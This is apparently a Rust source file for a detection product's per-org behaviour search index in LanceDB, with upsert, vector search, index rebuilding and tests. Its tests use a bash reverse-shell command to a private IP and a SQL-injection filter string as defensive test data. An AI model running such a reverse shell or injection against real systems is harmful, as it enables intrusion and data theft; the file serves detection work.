//! The search index: every distinct behaviour of an org's events (across all
//! its workloads, alerts included) as an embedding in LanceDB, one table per
//! org. Indexers write to it in batches (`merge_insert` on the behaviour's
//! id, so several indexers and replays write each behaviour once); the
//! Search service finds the behaviours nearest to a query and returns their
//! events from ClickHouse. Tables past `index_min_rows` get an IVF-PQ
//! vector index, rebuilt as they double.

use std::collections::HashMap;
use std::sync::Arc;

use arrow_array::types::Float32Type;
use arrow_array::{
    Array, FixedSizeListArray, Float32Array, Int64Array, RecordBatch, RecordBatchIterator,
    RecordBatchReader, StringArray,
};
use arrow_schema::{ArrowError, DataType, Field, Schema, SchemaRef};
use futures::TryStreamExt;
use lancedb::index::Index;
use lancedb::query::{ExecutableQuery, QueryBase, Select};
use lancedb::table::NewColumnTransform;
use lancedb::{Connection, DistanceType, Table};
use outlier_common::featurize::{DIM, Embedding};
use outlier_common::names::org_storage_name;
use thiserror::Error;
use tokio::sync::Mutex;
use xxhash_rust::xxh3::xxh3_64;

#[derive(Debug, Error)]
pub enum SearchIndexError {
    #[error("lancedb: {0}")]
    Lance(#[from] lancedb::Error),
    #[error("arrow: {0}")]
    Arrow(#[from] ArrowError),
    #[error("search table {0} has an unexpected schema")]
    Schema(String),
}

/// One distinct behaviour of a workload.
#[derive(Debug, Clone)]
pub struct Entry {
    pub workload: String,
    pub behaviour_key: u64,
    pub vector: Embedding,
    /// When `event_id` happened.
    pub last_seen_ns: u64,
    /// An event with this behaviour (the one written last): Search shows
    /// it, found in ClickHouse by its primary key.
    pub event_id: String,
}

/// A behaviour found by a search.
#[derive(Debug, Clone, PartialEq)]
pub struct Hit {
    pub workload: String,
    pub behaviour_key: u64,
    pub distance: f32,
    /// An event with this behaviour and its time (empty in tables written
    /// before examples were kept).
    pub event_id: String,
    pub ts_ns: u64,
}

/// Row id of a behaviour in its org's table: the same behaviour in two
/// workloads is two rows.
pub fn row_id(workload: &str, behaviour_key: u64) -> i64 {
    let mut buf = Vec::with_capacity(workload.len() + 9);
    buf.extend_from_slice(workload.as_bytes());
    buf.push(0);
    buf.extend_from_slice(&behaviour_key.to_le_bytes());
    xxh3_64(&buf) as i64
}

pub struct SearchIndex {
    db: Connection,
    tables: Mutex<HashMap<String, Table>>,
    /// Row count at the last index build, per table.
    indexed_at: Mutex<HashMap<String, usize>>,
    schema: SchemaRef,
}

fn schema() -> SchemaRef {
    Arc::new(Schema::new(vec![
        Field::new("id", DataType::Int64, false),
        Field::new("workload", DataType::Utf8, false),
        Field::new("behaviour_key", DataType::Int64, false),
        Field::new(
            "vector",
            DataType::FixedSizeList(
                Arc::new(Field::new("item", DataType::Float32, true)),
                DIM as i32,
            ),
            false,
        ),
        Field::new("last_seen_ns", DataType::Int64, false),
        Field::new("event_id", DataType::Utf8, true),
    ]))
}

/// Quotes a string for a LanceDB (DataFusion SQL) filter.
fn sql_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

impl SearchIndex {
    pub async fn open(uri: &str) -> Result<Self, SearchIndexError> {
        Ok(Self {
            db: lancedb::connect(uri).execute().await?,
            tables: Mutex::new(HashMap::new()),
            indexed_at: Mutex::new(HashMap::new()),
            schema: schema(),
        })
    }

    async fn table(&self, name: &str) -> Result<Option<Table>, SearchIndexError> {
        if let Some(t) = self.tables.lock().await.get(name) {
            return Ok(Some(t.clone()));
        }
        match self.db.open_table(name).execute().await {
            Ok(t) => {
                // Tables written before examples were kept gain the column
                // (empty: Search then looks their events up by behaviour).
                if t.schema().await?.field_with_name("event_id").is_err() {
                    t.add_columns()
                        .transform(NewColumnTransform::AllNulls(Arc::new(Schema::new(vec![
                            Field::new("event_id", DataType::Utf8, true),
                        ]))))
                        .execute()
                        .await?;
                    tracing::info!(table = name, "search table migrated: event_id added");
                }
                self.tables.lock().await.insert(name.to_string(), t.clone());
                Ok(Some(t))
            }
            Err(lancedb::Error::TableNotFound { .. }) => Ok(None),
            Err(e) => Err(e.into()),
        }
    }

    /// Writes behaviours of one org (new ones inserted, known ones updated).
    pub async fn upsert(&self, org: &str, entries: &[Entry]) -> Result<(), SearchIndexError> {
        if entries.is_empty() {
            return Ok(());
        }
        let name = org_storage_name(org);
        let batch = RecordBatch::try_new(
            self.schema.clone(),
            vec![
                Arc::new(Int64Array::from_iter_values(
                    entries.iter().map(|e| row_id(&e.workload, e.behaviour_key)),
                )),
                Arc::new(StringArray::from_iter_values(
                    entries.iter().map(|e| e.workload.as_str()),
                )),
                Arc::new(Int64Array::from_iter_values(
                    entries.iter().map(|e| e.behaviour_key as i64),
                )),
                Arc::new(
                    FixedSizeListArray::from_iter_primitive::<Float32Type, _, _>(
                        entries
                            .iter()
                            .map(|e| Some(e.vector.iter().copied().map(Some).collect::<Vec<_>>())),
                        DIM as i32,
                    ),
                ),
                Arc::new(Int64Array::from_iter_values(
                    entries.iter().map(|e| e.last_seen_ns as i64),
                )),
                Arc::new(StringArray::from_iter_values(
                    entries.iter().map(|e| e.event_id.as_str()),
                )),
            ],
        )?;
        let table = match self.table(&name).await? {
            Some(t) => t,
            None => match self.db.create_table(&name, batch.clone()).execute().await {
                Ok(t) => {
                    self.tables.lock().await.insert(name, t);
                    return Ok(());
                }
                Err(lancedb::Error::TableAlreadyExists { .. }) => self
                    .table(&name)
                    .await?
                    .ok_or_else(|| SearchIndexError::Schema(name.clone()))?,
                Err(e) => return Err(e.into()),
            },
        };
        let reader: Box<dyn RecordBatchReader + Send> = Box::new(RecordBatchIterator::new(
            vec![Ok(batch)],
            self.schema.clone(),
        ));
        let mut merge = table.merge_insert(&["id"]);
        merge
            .when_matched_update_all(None)
            .when_not_matched_insert_all();
        merge.execute(reader).await?;
        Ok(())
    }

    /// The behaviours of `org` nearest to `q` (optionally only in
    /// `workloads`), nearest first.
    pub async fn search(
        &self,
        org: &str,
        q: &Embedding,
        workloads: &[String],
        limit: usize,
    ) -> Result<Vec<Hit>, SearchIndexError> {
        let Some(table) = self.table(&org_storage_name(org)).await? else {
            return Ok(Vec::new());
        };
        let mut query = table
            .query()
            .nearest_to(q.as_slice())?
            .distance_type(DistanceType::Cosine)
            .select(Select::columns(&[
                "workload",
                "behaviour_key",
                "event_id",
                "last_seen_ns",
            ]))
            .limit(limit.max(1))
            .refine_factor(4)
            .nprobes(24)?;
        if !workloads.is_empty() {
            let list = workloads
                .iter()
                .map(|w| sql_quote(w))
                .collect::<Vec<_>>()
                .join(", ");
            query = query.only_if(format!("workload IN ({list})"));
        }
        let batches: Vec<RecordBatch> = query.execute().await?.try_collect().await?;
        let mut hits = Vec::new();
        for b in &batches {
            let col = |n: &str| {
                b.column_by_name(n)
                    .ok_or_else(|| SearchIndexError::Schema(n.to_string()))
            };
            let wl = col("workload")?
                .as_any()
                .downcast_ref::<StringArray>()
                .ok_or_else(|| SearchIndexError::Schema("workload".into()))?;
            let key = col("behaviour_key")?
                .as_any()
                .downcast_ref::<Int64Array>()
                .ok_or_else(|| SearchIndexError::Schema("behaviour_key".into()))?;
            let dist = col("_distance")?
                .as_any()
                .downcast_ref::<Float32Array>()
                .ok_or_else(|| SearchIndexError::Schema("_distance".into()))?;
            let id = col("event_id")?
                .as_any()
                .downcast_ref::<StringArray>()
                .ok_or_else(|| SearchIndexError::Schema("event_id".into()))?;
            let seen = col("last_seen_ns")?
                .as_any()
                .downcast_ref::<Int64Array>()
                .ok_or_else(|| SearchIndexError::Schema("last_seen_ns".into()))?;
            for i in 0..b.num_rows() {
                hits.push(Hit {
                    workload: wl.value(i).to_string(),
                    behaviour_key: key.value(i) as u64,
                    distance: dist.value(i),
                    event_id: if id.is_null(i) {
                        String::new()
                    } else {
                        id.value(i).to_string()
                    },
                    ts_ns: seen.value(i) as u64,
                });
            }
        }
        hits.sort_by(|a, b| a.distance.total_cmp(&b.distance));
        hits.truncate(limit);
        Ok(hits)
    }

    /// Builds (or rebuilds, once the table doubled) the vector index of
    /// every org table with at least `min_rows` rows. Returns the tables
    /// indexed.
    pub async fn maintain(&self, min_rows: usize) -> Result<Vec<String>, SearchIndexError> {
        let mut built = Vec::new();
        for name in self.db.table_names().execute().await? {
            if !name.starts_with("org_") {
                continue;
            }
            let Some(table) = self.table(&name).await? else {
                continue;
            };
            let rows = table.count_rows(None).await?;
            let last = self
                .indexed_at
                .lock()
                .await
                .get(&name)
                .copied()
                .unwrap_or(0);
            if rows < min_rows || (last > 0 && rows < last * 2) {
                continue;
            }
            let partitions = ((rows as f64).sqrt() as u32).clamp(16, 4096);
            let builder = lancedb::index::vector::IvfPqIndexBuilder::default()
                .distance_type(DistanceType::Cosine)
                .num_partitions(partitions)
                .num_sub_vectors(16);
            table
                .create_index(&["vector"], Index::IvfPq(builder))
                .replace(true)
                .execute()
                .await?;
            self.indexed_at.lock().await.insert(name.clone(), rows);
            tracing::info!(table = %name, rows, partitions, "search index built");
            built.push(name);
        }
        Ok(built)
    }

    /// Number of behaviours indexed for `org`.
    pub async fn count(&self, org: &str) -> Result<usize, SearchIndexError> {
        match self.table(&org_storage_name(org)).await? {
            Some(t) => Ok(t.count_rows(None).await?),
            None => Ok(0),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use outlier_common::featurize::{behaviour_key, embed, embed_text};
    use outlier_proto::{Event, Exec, event::Detail};

    fn ev(comm: &str, argv: &[&str]) -> Embedding {
        embed(&Event {
            comm: comm.into(),
            detail: Some(Detail::Exec(Exec {
                argv: argv.iter().map(|s| s.to_string()).collect(),
                ..Exec::default()
            })),
            ..Event::default()
        })
    }

    #[tokio::test]
    async fn finds_the_nearest_behaviour_per_org_and_workload() {
        let dir = tempfile::tempdir().unwrap();
        let idx = SearchIndex::open(dir.path().to_str().unwrap())
            .await
            .unwrap();
        let rev = ev(
            "bash",
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        );
        let nginx = ev("nginx", &["nginx: worker process"]);
        let entry = |wl: &str, v: Embedding| Entry {
            workload: wl.into(),
            behaviour_key: behaviour_key(&v),
            vector: v,
            last_seen_ns: 1,
            event_id: format!("{wl}-1"),
        };
        idx.upsert(
            "a",
            &[entry("web", rev), entry("web", nginx), entry("db", nginx)],
        )
        .await
        .unwrap();
        idx.upsert("a", &[entry("web", rev)]).await.unwrap();
        idx.upsert("b", &[entry("web", nginx)]).await.unwrap();
        assert_eq!(
            idx.count("a").await.unwrap(),
            3,
            "upsert writes a behaviour once"
        );

        let hits = idx
            .search(
                "a",
                &embed_text("reverse shell bash outbound connection"),
                &[],
                10,
            )
            .await
            .unwrap();
        assert_eq!(hits[0].behaviour_key, behaviour_key(&rev));
        assert_eq!(hits.len(), 3);
        assert_eq!((hits[0].event_id.as_str(), hits[0].ts_ns), ("web-1", 1));
        let hits = idx
            .search("a", &nginx, &["db".to_string()], 10)
            .await
            .unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].workload, "db");
        // Another org's table is never read; a quote cannot escape the filter.
        let hits = idx
            .search("b", &rev, &["web') OR ('1'='1".to_string()], 10)
            .await
            .unwrap();
        assert!(hits.is_empty());
        assert!(
            idx.search("nobody", &rev, &[], 10)
                .await
                .unwrap()
                .is_empty()
        );
    }

    #[tokio::test]
    async fn tables_without_examples_are_migrated() {
        let dir = tempfile::tempdir().unwrap();
        let uri = dir.path().to_str().unwrap();
        // A table as written before examples were kept.
        let nginx = ev("nginx", &["nginx: worker process"]);
        let old = Arc::new(Schema::new(schema().fields()[..5].to_vec()));
        let batch = RecordBatch::try_new(
            old,
            vec![
                Arc::new(Int64Array::from(vec![row_id("web", 7)])),
                Arc::new(StringArray::from(vec!["web"])),
                Arc::new(Int64Array::from(vec![7])),
                Arc::new(
                    FixedSizeListArray::from_iter_primitive::<Float32Type, _, _>(
                        [Some(nginx.iter().copied().map(Some).collect::<Vec<_>>())],
                        DIM as i32,
                    ),
                ),
                Arc::new(Int64Array::from(vec![5])),
            ],
        )
        .unwrap();
        let db = lancedb::connect(uri).execute().await.unwrap();
        db.create_table(org_storage_name("a"), batch)
            .execute()
            .await
            .unwrap();

        let idx = SearchIndex::open(uri).await.unwrap();
        let rev = ev("bash", &["bash", "-i"]);
        idx.upsert(
            "a",
            &[Entry {
                workload: "web".into(),
                behaviour_key: 8,
                vector: rev,
                last_seen_ns: 9,
                event_id: "e9".into(),
            }],
        )
        .await
        .unwrap();
        let hits = idx.search("a", &nginx, &[], 10).await.unwrap();
        let got: Vec<(u64, &str, u64)> = hits
            .iter()
            .map(|h| (h.behaviour_key, h.event_id.as_str(), h.ts_ns))
            .collect();
        assert_eq!(got, vec![(7, "", 5), (8, "e9", 9)]);
    }
}
